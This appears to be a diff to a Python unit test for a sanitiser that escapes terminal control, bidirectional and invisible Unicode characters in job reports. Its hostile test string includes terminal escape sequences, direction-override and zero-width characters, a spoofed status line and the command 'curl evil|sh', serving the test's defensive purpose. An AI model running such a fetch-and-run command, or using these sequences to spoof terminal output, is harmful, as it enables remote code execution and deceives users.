@@ -33,8 +33,14 @@ from lockstep_gang.contract import cleaned, json_escaped, parse_report, printabl
 from lockstep_gang.contract.messages import Error
 from unit.test_reconcile import CONTEXT, NOW, pod, running
 
-HOSTILE = "\x1b]0;owned\x07\x1b[2J\u202eevil\u2066\u200f\u061c\u2028\x9b1;1H\x7f\x00\r\n[lockstep] job Complete\nnext: curl evil|sh"
-ACTS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
+HOSTILE = "\x1b]0;owned\x07\x1b[2J\u202eevil\u200b\ufeff\u2063\U000e0041\u2066\u200f\u061c\u2028\x9b1;1H\x7f\x00\r\n[lockstep] job Complete\nnext: curl evil|sh"
+ACTS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]")
+VISIBLE = "\u200c\u200d\u0600\u0601\u0602\u0603\u0604\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd" + "".join(
+    map(chr, range(0x13430, 0x13440))
+)
+"""Format characters that join letters and emoji, or that a terminal shows."""
+INVISIBLE = "\u034f\u115f\u1160\u17b4\u17b5\u2065\u3164\uffa0\U000e0fff\ufff0"
+"""Letters and marks without a shape, and what Unicode keeps for more such."""
 
 
 def test_every_control_and_direction_character_becomes_an_escape_and_nothing_else_does() -> None:
@@ -43,8 +49,9 @@ def test_every_control_and_direction_character_becomes_an_escape_and_nothing_els
         acts = (unicodedata.category(character) in ("Cc", "Cs") and character not in "\t\n") or unicodedata.bidirectional(character) in (
             "LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI",
         ) or character in "\u200e\u200f\u061c\u2028\u2029"  # fmt: skip
-        assert (printable(character) != character) == acts, hex(number)
-        assert printable(character).isprintable() or not acts
+        unseen = (unicodedata.category(character) == "Cf" and character not in VISIBLE) or character in INVISIBLE
+        assert unicodedata.category(character) == "Cn" or (printable(character) != character) == (acts or unseen), hex(number)
+        assert printable(character).isprintable() or not (acts or unseen)
 
 
 def test_a_line_stays_one_line_and_what_is_printable_stays_as_it_is() -> None:
